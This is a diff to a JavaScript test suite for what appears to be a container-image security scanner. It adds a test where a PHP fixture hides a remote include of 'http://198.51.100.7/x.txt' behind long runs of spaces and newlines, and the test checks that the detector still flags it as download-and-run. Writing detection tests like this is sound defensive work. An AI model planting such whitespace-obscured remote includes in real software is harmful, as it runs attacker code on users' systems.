@@ -19,4 +19,13 @@ describe('a program with more blanks than anybody writes costs no more than its 
     const { unknowns } = judge(DETECTORS, { layers: [{ 'etc/cron.daily/a': { text, mode: 0o755 } }] });
     expect(unknowns.filter(({ reason }) => reason === 'parse-failed')).toEqual([]);
   });
+
+  it('hides nothing behind them', () => {
+    const text = `<?php include${' '.repeat(100)}(${'\n'.repeat(100)}"http://198.51.100.7/x.txt");`;
+    const { findings } = judge(DETECTORS, {
+      config: { Entrypoint: ['php', '/app/a.php'] },
+      layers: [{ 'app/a.php': text, 'usr/bin/php': { text: '', mode: 0o755 } }],
+    });
+    expect(findings.map(({ rule }) => rule)).toContain('start/download-and-run');
+  });
 });
